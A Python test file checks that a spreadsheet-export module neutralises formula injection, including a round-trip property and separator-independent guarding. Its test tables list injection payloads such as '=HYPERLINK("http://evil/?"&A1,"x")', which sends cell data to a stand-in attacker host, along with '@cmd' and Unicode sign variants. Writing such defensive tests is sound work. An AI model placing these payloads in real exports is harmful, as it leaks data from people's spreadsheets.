"""Exports for spreadsheets: nothing that was stored is a formula when it is opened, and every text comes back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loop.text.sheets import guard_cell, sheet, unguarded

DANGEROUS = (
    "=1+1", "+44 20 7946 0000", "-2", "@cmd", "=HYPERLINK(\"http://outside.invalid\")", "  =1+1",
    "＝1+1", "＋1", "－1", "＠x", "\u00a0=1", "\u200b=1", "\ufeff=1", "'=1", "\tplain", "﹢1", "﹣1",
)  # fmt: skip
INSIDE = {
    "\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", " \t=1": " \t'=1",
    'thanks;=HYPERLINK("http://evil/?"&A1,"x")': 'thanks;\'=HYPERLINK("http://evil/?"&A1,"x")',
    "text\t=1": "text\t'=1", "ok\n=1+1": "ok\n'=1+1", "a; \u00a0＝1|-2": "a;' \u00a0＝1|'-2", 'x;"=1': "x;'\"=1",
    "it;'s": "it;''s", "=1;=2": "'=1;'=2",
}  # fmt: skip
HARMLESS = (
    "",
    "refund",
    "a=b",
    "3 + 4",
    "e-mail",
    "⟨PHONE_1⟩",
    "100",
    "“=”",
    " plain",
    "−4 points",
    "a; b",
    "a;b=c",
    "x|y",
    "two\nlines",
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert guard_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_run_is_left_alone(text: str) -> None:
    assert guard_cell(text) == text


@pytest.mark.parametrize("text", INSIDE)
def test_what_begins_a_cell_where_lines_are_split_otherwise_is_guarded_too(text: str) -> None:
    assert guard_cell(text) == INSIDE[text]


TEXTS = st.one_of(st.text(), st.text(alphabet="=+-@＝;|,\t\r\n '\"ax\u200b\u00a0"))


@given(TEXTS)
def test_every_text_comes_back(text: str) -> None:
    assert unguarded(guard_cell(text)) == text


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@given(texts=st.lists(TEXTS, min_size=2, max_size=4))
def test_no_cell_is_a_formula_whichever_sign_lines_are_split_at(separator: str, texts: list[str]) -> None:
    made = sheet([str(place) for place in range(len(texts))], [texts])
    lines = csv.reader(io.StringIO(made, newline=""), delimiter=separator)
    # A cell of ours follows a comma: what a line of the file begins with is ours, and never a trigger.
    for cell in (cell for line in lines for cell in line):
        shown = cell.lstrip(" \u00a0\u200b\t\r\n")
        assert not shown.startswith(("=", "+", "-", "@", "＝")), cell


def test_a_sheet_guards_header_and_cells_keeps_numbers_and_quotes_what_it_must() -> None:
    made = sheet(("name", "=n"), [("=1+1", -2), ('says "hi", twice\nand more', 0.5), ("plain", None)])
    rows = list(csv.reader(io.StringIO(made)))
    assert rows[0] == ["name", "'=n"]
    assert rows[1] == ["'=1+1", "-2"]
    assert rows[2] == ['says "hi", twice\nand more', "0.5"]
    assert rows[3] == ["plain", ""]
